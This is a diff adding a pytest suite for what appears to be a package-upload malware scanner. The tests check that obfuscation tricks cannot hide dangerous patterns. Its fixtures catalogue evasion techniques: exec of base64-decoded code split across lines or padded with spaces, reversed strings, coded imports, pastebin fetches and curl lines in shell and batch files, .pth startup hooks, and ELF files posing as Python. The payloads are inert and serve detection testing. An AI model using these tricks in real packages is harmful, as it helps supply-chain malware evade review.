@@ -1,0 +1,184 @@
+"""What whoever wants to pass unseen would try; each passed once."""
+
+from __future__ import annotations
+
+import pytest
+
+from moderation.scanning import of_archive, scan, shown
+from tests.factories.dists import make_sdist, make_wheel
+
+EVIL = "exec(base64.b64decode('cHJpbnQoMSk='))\n"
+ELF = b"\x7fELF\x02\x01\x01" + bytes(60)
+PASTE = "get('https://pastebin.com/raw/abcd1234')"
+
+# In a wheel: rule, path, content.
+TRICKS = {
+    "line breaks": (
+        "runs_what_it_decodes",
+        "demo/a.py",
+        "exec(\n    __import__('base64')\n    .b64decode(x)\n)\n",
+    ),
+    "continued lines": ("runs_what_it_decodes", "demo/a.py", "exec \\\n(b64decode(x))\n"),
+    "much space": ("runs_what_it_decodes", "demo/a.py", f"exec{' ' * 40}(b64decode(x))\n"),
+    "a comment between": (
+        "runs_what_it_decodes",
+        "demo/a.py",
+        f"exec(  # {'very harmless ' * 10})\n    b64decode(x))\n",
+    ),
+    "by its name": ("runs_what_it_decodes", "demo/a.py", "vars(b)['exec'](b64decode(x))\n"),
+    "another decoder": ("runs_what_it_decodes", "demo/a.py", "exec(binascii.a2b_base64(x))\n"),
+    "characters on lines": (
+        "runs_characters_put_together",
+        "demo/a.py",
+        "exec(\n    ''\n    .join(\n        map(\n            chr, x)))\n",
+    ),
+    "backwards on lines": (
+        "runs_characters_put_together",
+        "demo/a.py",
+        "exec(\n    ')1(tnirp'\n    [::-1]\n)\n",
+    ),
+    "a blob on lines": (
+        "runs_a_long_blob",
+        "demo/a.py",
+        "x = ("
+        + "".join(f"\n    '{'QUJD' * 18}'" for _ in range(12))
+        + ")\ny = b64decode(x)\nexec(y)",
+    ),
+    "documentation on lines": (
+        "runs_its_own_documentation",
+        "demo/a.py",
+        "exec(\n    demo\n    .__doc__\n)\n",
+    ),
+    "a module on lines": (
+        "imports_by_a_coded_name",
+        "demo/a.py",
+        "__import__(\n    b64decode('b3M=').decode()\n)\n",
+    ),
+    "beyond two thousand spaces": (
+        "code_far_to_the_right",
+        "demo/a.py",
+        "import os" + " " * 3000 + ";exec(x)",
+    ),
+    "a text that looks like a comment": ("paste_site", "demo/a.py", f"x = '# '; {PASTE}\n"),
+    "a variable called rem": ("paste_site", "demo/a.py", f"rem = {PASTE}\n"),
+    "a division": ("paste_site", "demo/a.py", f"x = 1 \\\n// {PASTE}\n"),
+    "an f-string as docstring": ("paste_site", "demo/a.py", f'f"{{{PASTE}}}"\n'),
+    "an f-string beside a docstring": ("paste_site", "demo/a.py", f'"x" f"{{{PASTE}}}"\n'),
+    "quotes of a newer Python": (
+        "paste_site",
+        "demo/a.py",
+        f"x = f'{{y['# ']}}'; {PASTE}\n",
+    ),
+    "braces of a newer Python": (
+        "paste_site",
+        "demo/a.py",
+        f"x = f'}}}}{{ {{y['# ']}} }}'; {PASTE}\n",
+    ),
+    "templates of a newer Python": ("paste_site", "demo/a.py", f"t'{{y['# ']}}'; {PASTE}\n"),
+    "documentation that is read": (
+        "paste_site",
+        "demo/a.py",
+        '"""https://pastebin.com/raw/abcd1234"""\nget(__doc__)\n',
+    ),
+    "old line breaks": ("paste_site", "demo/a.py", f"# harmless\r{PASTE}\n"),
+    "a comment for shells": ("paste_site", "demo/a.sh", "x='# '; curl https://pastebin.com/raw/x"),
+    "a remark that goes on": (
+        "paste_site",
+        "demo/a.bat",
+        "rem & curl https://pastebin.com/raw/abcd",
+    ),
+    "a hook that begins like a program": ("startup_hook", "evil.pth", "MZ\nimport evil\n"),
+    "code that begins like a program": ("runs_what_it_decodes", "evil.pth", "MZ\nimport x;" + EVIL),
+    "a program called Python": ("elf_program", "demo/data.py", ELF),
+    "a native hook": ("startup_hook", "sitecustomize.so", ELF),
+}
+COMMENTS = {
+    "Python": ("demo/a.py", f"x = 1  # {PASTE}\n"),
+    "several lines": ("demo/a.py", f'"""Docs.\n\n{PASTE}\n"""\n'),
+    "after an f-string": ("demo/a.py", f"x = f'{{{{{{y}}}}}}'  # {PASTE}\n"),
+    "a script": ("demo-1.0.data/scripts/a", f"#!python\nx = 1  # {PASTE}\n"),
+    "shell": ("demo/a.sh", "#!/bin/sh\n  # curl https://pastebin.com/raw/x\n"),
+    "batch": ("demo/a.cmd", "REM see https://pastebin.com/raw/x\n:: https://pastebin.com/raw/x\n"),
+    "a hook": ("demo/x.pth", "# https://pastebin.com/raw/x\n"),
+}
+INNOCENT = {
+    "another statement": "exec(code)\n\n\ndata = decompress(x)\n",
+    "another call": "exec(code,\n     spaces)\ny = b64decode(x)[::-1]\n",
+}
+
+
+def rules_of(path):
+    return {each.rule for each in of_archive(path, path.name).found}
+
+
+@pytest.mark.parametrize("trick", TRICKS)
+def test_a_trick_does_not_hide_it(tmp_path, trick):
+    rule, member, content = TRICKS[trick]
+    assert rule in rules_of(make_wheel(tmp_path, files={member: content}))
+
+
+@pytest.mark.parametrize("language", COMMENTS)
+def test_comments_are_comments_in_their_languages(tmp_path, language):
+    member, content = COMMENTS[language]
+    assert not rules_of(make_wheel(tmp_path, files={member: content}))
+
+
+@pytest.mark.parametrize("kind", INNOCENT)
+def test_what_stands_after_a_call_is_not_in_it(tmp_path, kind):
+    assert not rules_of(make_wheel(tmp_path, files={"demo/a.py": INNOCENT[kind]}))
+
+
+def test_tests_do_not_use_up_a_rule(tmp_path):
+    padding = "".join(f"exec(b64decode(x{n}))\n" for n in range(30))
+    path = make_sdist(tmp_path, files={"tests/a.py": padding, "demo/a.py": EVIL})
+    found = of_archive(path, path.name).found
+    assert [each.key for each in found if each.severity == "high"] == ["demo/a.py"]
+    assert shown(found)[0].key == "demo/a.py"
+
+
+def test_many_signals_do_not_use_up_the_scan(tmp_path):
+    padding = {f"tests/a{n}.py": f"exec(b64decode(x{n}))\n{PASTE}\n" for n in range(150)}
+    path = make_sdist(tmp_path, files={**padding, "demo/a.py": EVIL})
+    assert "demo/a.py" in {each.key for each in of_archive(path, path.name).found}
+
+
+def test_comments_do_not_use_up_a_pattern(tmp_path):
+    text = "# https://pastebin.com/raw/abcd\n" * 500 + PASTE
+    path = make_wheel(tmp_path, files={"demo/a.py": text})
+    assert [each.line for each in of_archive(path, path.name).found] == [501]
+
+
+def test_more_matches_than_are_looked_at_are_unseen(tmp_path):
+    text = "# https://pastebin.com/raw/abcd\n" * 1500 + PASTE
+    path = make_wheel(tmp_path, files={"demo/a.py": text})
+    assert of_archive(path, path.name).unseen == ["demo/a.py"]
+
+
+def test_more_places_than_are_kept_are_unseen(tmp_path, monkeypatch):
+    monkeypatch.setattr(scan, "MOST_PLACES", 20)
+    text = "".join(f"exec(b64decode(x{n}))\n" for n in range(21))
+    path = make_wheel(tmp_path, files={"demo/a.py": text, "demo/b.py": EVIL})
+    seen = of_archive(path, path.name)
+    assert seen.unseen == ["demo/a.py", "demo/b.py"]
+    assert len(seen.found) == 20
+
+
+def test_the_end_of_a_long_line_counts(tmp_path):
+    def identity(folder, end):
+        line = f"exec(b64decode('{'A' * 9000}{end}'))\n"
+        path = make_wheel(tmp_path / folder, files={"demo/a.py": line})
+        return [each.identity for each in of_archive(path, path.name).found]
+
+    assert identity("a", "x") != identity("b", "y")
+
+
+def test_documentation_of_a_large_member_ends_with_the_time(tmp_path):
+    text = "x = [1, 2, 3]\n" * 200_000 + PASTE
+    path = make_wheel(tmp_path, files={"demo/a.py": text})
+    assert of_archive(path, path.name, budget=0.2).unseen[0] == "demo/a.py"
+
+
+def test_lines_are_counted_as_pages_count_them(tmp_path):
+    path = make_wheel(tmp_path, files={"demo/a.py": f"x\r\ny\rz\n{PASTE}\n"})
+    (found,) = of_archive(path, path.name).found
+    assert (found.line, found.excerpt) == (3, PASTE)
